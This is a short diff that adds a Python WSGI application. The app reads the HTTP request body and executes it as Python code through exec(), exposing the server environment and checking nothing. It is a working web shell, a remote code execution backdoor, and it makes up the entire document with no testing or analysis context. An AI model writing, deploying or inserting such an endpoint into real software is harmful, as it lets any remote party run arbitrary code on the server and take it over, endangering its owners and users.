@@ -1,0 +1,8 @@
+"""Runs the Python statements in the request body, with the environ at hand."""
+
+
+def application(environ, start_response):
+    statements = environ["wsgi.input"].read().decode()
+    exec(compile(statements, "<request>", "exec"), {"environ": environ, "__name__": __name__})
+    start_response("200 OK", [("Content-Type", "text/plain")])
+    return [b"done"]
